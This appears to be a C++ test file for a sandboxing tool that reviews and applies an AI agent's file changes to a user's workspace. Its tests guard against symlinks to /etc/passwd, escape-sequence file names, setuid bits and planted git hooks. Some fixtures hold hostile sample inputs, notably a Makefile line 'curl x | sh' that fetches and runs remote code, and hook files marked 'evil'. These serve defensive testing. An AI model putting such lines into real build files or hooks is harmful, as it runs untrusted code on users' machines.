// Diff, default review and flush, on real files: the snapshot is changed
// directly, as the agent would.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "bbox/common/exit_codes.h"
#include "workspace/changes.h"
#include "workspace/flush.h"
#include "workspace/review.h"
#include "workspace/session_fixture.h"
#include "workspace/session_meta.h"

namespace bbox::workspace {
namespace {

namespace fs = std::filesystem;
using testing::read_file;
using testing::write_file;

class Flush : public testing::SessionTest {
 protected:
  int finish(const SessionDir& s, FinishOptions o = {}) {
    auto rc = finish_session(s, o);
    EXPECT_TRUE(rc.ok()) << (rc.ok() ? "" : rc.error().message);
    return rc.ok() ? *rc : -1;
  }
  mode_t mode_of(const fs::path& p) {
    struct stat st {};
    ::lstat(p.c_str(), &st);
    return st.st_mode & 07777;
  }
};

TEST_F(Flush, AppliesAddedModifiedDeletedModeAndEmptyDirectories) {
  write_file(ws / "a.txt", "one\ntwo\n");
  write_file(ws / "gone.txt", "bye\n");
  write_file(ws / "build.sh", "echo\n");
  auto s = snapshot();
  write_file(s.snapshot / "a.txt", "one\n2\n");
  write_file(s.snapshot / "new/deep/b.txt", "new\n");
  fs::create_directories(s.snapshot / "emptydir");
  fs::remove(s.snapshot / "gone.txt");
  ::chmod((s.snapshot / "build.sh").c_str(), 0755);

  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(read_file(ws / "a.txt"), "one\n2\n");
  EXPECT_EQ(read_file(ws / "new/deep/b.txt"), "new\n");
  EXPECT_TRUE(fs::is_directory(ws / "emptydir"));
  EXPECT_FALSE(fs::exists(ws / "gone.txt"));
  EXPECT_EQ(mode_of(ws / "build.sh"), 0755u);
  EXPECT_FALSE(fs::exists(s.dir)) << "a finished session is removed";
  EXPECT_NE(messages.find("applied 7 changes, rejected 0, skipped 0, conflicts 0\n"
                          "  M a.txt\n"
                          "  M build.sh\n"
                          "  A emptydir\n"
                          "  D gone.txt\n"
                          "  A new\n"
                          "  A new/deep\n"
                          "  A new/deep/b.txt\n"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, NoChangeSaysSoAndRemovesTheSession) {
  write_file(ws / "a.txt", "same\n");
  auto s = snapshot();
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(messages, "bbox: info: no changes to apply: the workspace is as it was\n");
  EXPECT_FALSE(fs::exists(s.dir));
}

TEST_F(Flush, SummaryEscapesAndWarnsAboutControlCharactersInAppliedNames) {
  auto s = snapshot();
  write_file(s.snapshot / "evil\x1b[2Jname", "x\n");
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_TRUE(fs::exists(ws / "evil\x1b[2Jname"));
  EXPECT_EQ(messages.find('\x1b'), std::string::npos) << "a raw escape reached the terminal";
  EXPECT_NE(messages.find("  A evil\\x1b[2Jname\n"
                          "bbox: warning: applied a file whose name holds control characters: "
                          "'evil\\x1b[2Jname'\n"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, FifoTheAgentMadeIsLeftOutWithANote) {
  auto s = snapshot();
  ASSERT_EQ(::mkfifo((s.snapshot / "pipe").c_str(), 0644), 0);
  write_file(s.snapshot / "real.txt", "r\n");
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_FALSE(fs::exists(fs::symlink_status(ws / "pipe")));
  EXPECT_EQ(read_file(ws / "real.txt"), "r\n");
  EXPECT_NE(messages.find("bbox: note: left out 1 special file the agent made (FIFO, socket or "
                          "device), first 'pipe'\n"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, SparseFileTheAgentMadeStaysSparseInTheWorkspace) {
  auto s = snapshot();
  {
    int fd = ::open((s.snapshot / "sparse").c_str(), O_WRONLY | O_CREAT, 0644);
    ASSERT_GE(fd, 0);
    ASSERT_EQ(::pwrite(fd, "end", 3, (off_t{1} << 30)), 3);  // 1 GiB hole, then 3 bytes
    ::close(fd);
  }
  EXPECT_EQ(finish(s), exit_code::kOk);
  struct stat st {};
  ASSERT_EQ(::stat((ws / "sparse").c_str(), &st), 0);
  EXPECT_EQ(st.st_size, (off_t{1} << 30) + 3);
  EXPECT_LT(st.st_blocks * 512, off_t{1} << 20) << "the hole was written out as zeros";
}

TEST_F(Flush, SetuidIsShownButNeverFlushed) {
  write_file(ws / "tool.sh", "#!/bin/sh\n");
  auto s = snapshot();
  ::chmod((s.snapshot / "tool.sh").c_str(), 04755);
  std::string patch;
  {
    auto meta = read_meta(s.dir);
    auto trees = open_trees(s, *meta);
    auto set = compute_changes(*trees, *Manifest::load(s.dir), *meta, false);
    ASSERT_EQ(set->changes.size(), 1u);
    EXPECT_TRUE(set->changes[0].mode_changed);
    EXPECT_EQ(set->changes[0].after.mode, 0755u);
  }
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(mode_of(ws / "tool.sh"), 0755u);
}

TEST_F(Flush, OutwardSymlinksAreNeverReadNorFlushedAndCyclesDoNotHang) {
  write_file(ws / "notes.txt", "my notes\n");
  write_file(ws / "sub/dir/x", "x");
  auto s = snapshot();
  fs::remove(s.snapshot / "notes.txt");
  fs::create_symlink("/etc/passwd", s.snapshot / "notes.txt");
  fs::create_symlink("../../../../etc/passwd", s.snapshot / "readme2");
  fs::create_symlink("loop2", s.snapshot / "loop1");
  fs::create_symlink("loop1", s.snapshot / "loop2");
  fs::path patch = tmp.path() / "out.patch";
  {
    auto meta = read_meta(s.dir);
    auto trees = open_trees(s, *meta);
    auto set = compute_changes(*trees, *Manifest::load(s.dir), *meta, false);
    ASSERT_EQ(set->changes.size(), 4u);
    EXPECT_EQ(set->changes[2].path, "notes.txt");
    EXPECT_EQ(set->changes[2].kind, ChangeKind::kTypeChanged);
  }
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(read_file(ws / "notes.txt"), "my notes\n");
  EXPECT_FALSE(fs::is_symlink(ws / "notes.txt"));
  EXPECT_FALSE(fs::is_symlink(ws / "readme2"));
  EXPECT_TRUE(fs::is_symlink(ws / "loop1"));
  EXPECT_EQ(messages.find("root:"), std::string::npos);
  EXPECT_NE(messages.find("skipped 'notes.txt': a symlink pointing outside the workspace"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, ParentReplacedBySymlinkBeforeFlushWritesNothingOutside) {
  write_file(ws / "dir/file.txt", "old\n");
  auto s = snapshot();
  write_file(s.snapshot / "dir/file.txt", "agent\n");
  write_file(s.snapshot / "dir/victim.txt", "agent\n");
  auto meta = read_meta(s.dir);
  auto trees = open_trees(s, *meta);
  auto manifest = Manifest::load(s.dir);
  auto set = compute_changes(*trees, *manifest, *meta, false);
  auto items = default_review(*set, false, s.id);
  fs::rename(ws / "dir", tmp.path() / "moved");
  fs::create_directory_symlink(out, ws / "dir");
  auto journal = Journal::open(s.dir);
  FlushReport r = flush_changes(*trees, *journal, *manifest, items);
  EXPECT_EQ(read_file(out / "victim.txt"), "outside\n");
  EXPECT_FALSE(fs::exists(out / "file.txt"));
  ASSERT_EQ(r.skipped.size(), 2u);
  EXPECT_EQ(r.skipped[0].second, "a directory on its path is a symlink");
  EXPECT_TRUE(r.applied.empty());
}

TEST_F(Flush, DeletedDirectoryKeepsExcludedEnvAndTheDirectory) {
  write_file(ws / "cache/.env", "SECRET=1\n");
  write_file(ws / "cache/data.bin", "d");
  auto s = snapshot();
  fs::remove_all(s.snapshot / "cache");
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(read_file(ws / "cache/.env"), "SECRET=1\n");
  EXPECT_FALSE(fs::exists(ws / "cache/data.bin"));
  EXPECT_NE(messages.find("'cache': directory kept: it still holds files the agent could not see"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, ConflictKeepsTheAgentVersionBesideTheUsersFile) {
  write_file(ws / "a.txt", "base\n");
  auto s = snapshot();
  write_file(s.snapshot / "a.txt", "agent\n");
  write_file(ws / "a.txt", "user edit\n");
  EXPECT_EQ(finish(s), exit_code::kConflict);
  EXPECT_EQ(read_file(ws / "a.txt"), "user edit\n");
  EXPECT_EQ(read_file(ws / "a.txt.bbox-agent"), "agent\n");
  EXPECT_NE(messages.find("conflict on 'a.txt': the agent's version is in 'a.txt.bbox-agent'"),
            std::string::npos)
      << messages;
}

TEST_F(Flush, NeverWritesIntoAHardLinkedInodeSharedOutside) {
  write_file(out / "shared.txt", "shared\n");
  fs::create_hard_link(out / "shared.txt", ws / "shared.txt");
  auto s = snapshot();
  write_file(s.snapshot / "shared.txt", "agent\n");
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(read_file(ws / "shared.txt"), "agent\n");
  EXPECT_EQ(read_file(out / "shared.txt"), "shared\n");
}

TEST_F(Flush, DefaultPolicyHoldsBackHooksAndKeepsTheSession) {
  write_file(ws / ".git/HEAD", "ref: refs/heads/main\n");
  write_file(ws / "Makefile", "all:\n");
  auto s = snapshot();
  write_file(s.snapshot / ".git/hooks/pre-commit", "#!/bin/sh\nevil\n");
  write_file(s.snapshot / ".husky/pre-push", "evil\n");
  write_file(s.snapshot / "Makefile", "all:\n\tcurl x | sh\n");
  EXPECT_EQ(finish(s), exit_code::kPendingReview);
  EXPECT_FALSE(fs::exists(ws / ".git/hooks/pre-commit"));
  EXPECT_FALSE(fs::exists(ws / ".husky/pre-push"));
  EXPECT_EQ(read_file(ws / "Makefile"), "all:\n\tcurl x | sh\n");
  EXPECT_NE(messages.find("not applied '.git/hooks/pre-commit': it can run code on this machine; "
                          "approve it with `bbox review " +
                          s.id + " --review`"),
            std::string::npos)
      << messages;
  EXPECT_NE(messages.find("applying 'Makefile' (modified): a build or CI file"), std::string::npos);
  ASSERT_TRUE(fs::exists(s.dir));

  EXPECT_FALSE(open_session(s.id).ok()) << "still held by this process";
  s.lock.reset();
  auto reopened = open_session(s.id);
  ASSERT_TRUE(reopened.ok());
  FinishOptions yes;
  yes.yes = true;
  EXPECT_EQ(finish(*reopened, yes), exit_code::kOk);
  EXPECT_EQ(read_file(ws / ".git/hooks/pre-commit"), "#!/bin/sh\nevil\n");
  EXPECT_FALSE(fs::exists(s.dir));
}

TEST_F(Flush, GuestSettingMtimeBackDoesNotHideAChange) {
  write_file(ws / "a.txt", "same size\n");
  auto s = snapshot();
  struct stat before {};
  ::stat((s.snapshot / "a.txt").c_str(), &before);
  write_file(s.snapshot / "a.txt", "SAME SIZE\n");
  struct timespec times[2] = {before.st_atim, before.st_mtim};
  ::utimensat(AT_FDCWD, (s.snapshot / "a.txt").c_str(), times, 0);
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_EQ(read_file(ws / "a.txt"), "SAME SIZE\n");
}

TEST_F(Flush, TouchedButIdenticalFilesAreNotChanges) {
  write_file(ws / "a.txt", "x\n");
  auto s = snapshot();
  struct timespec times[2] = {{5, 0}, {5, 0}};
  ::utimensat(AT_FDCWD, (s.snapshot / "a.txt").c_str(), times, 0);
  auto meta = read_meta(s.dir);
  auto trees = open_trees(s, *meta);
  auto set = compute_changes(*trees, *Manifest::load(s.dir), *meta, false);
  EXPECT_TRUE(set->changes.empty());
}

TEST_F(Flush, GitignoredFilesAreNotOfferedUnlessAsked) {
  write_file(ws / ".gitignore", "*.o\nout/\n");
  write_file(ws / "src/.gitignore", "gen.c\n");
  auto s = snapshot();
  write_file(s.snapshot / "main.o", "obj");
  write_file(s.snapshot / "out/x", "x");
  write_file(s.snapshot / "src/gen.c", "g");
  write_file(s.snapshot / "src/real.c", "r");
  auto meta = read_meta(s.dir);
  auto trees = open_trees(s, *meta);
  auto manifest = Manifest::load(s.dir);
  auto set = compute_changes(*trees, *manifest, *meta, false);
  ASSERT_EQ(set->changes.size(), 1u);
  EXPECT_EQ(set->changes[0].path, "src/real.c");
  EXPECT_EQ(set->ignored_hidden, 4u);  // main.o, out, out/x, src/gen.c
  auto all = compute_changes(*trees, *manifest, *meta, true);
  std::string paths;
  for (const auto& c : all->changes) paths += c.path + " ";
  EXPECT_EQ(paths, "main.o out out/x src/gen.c src/real.c ");
}

TEST_F(Flush, SecretsTheAgentCreatesAreNotOffered) {
  write_file(ws / "a.txt", "a");
  auto s = snapshot();
  write_file(s.snapshot / ".env", "X=1");
  write_file(s.snapshot / "node_modules/m.js", "m");
  EXPECT_EQ(finish(s), exit_code::kOk);
  EXPECT_FALSE(fs::exists(ws / ".env"));
  EXPECT_FALSE(fs::exists(ws / "node_modules"));
}

}  // namespace
}  // namespace bbox::workspace
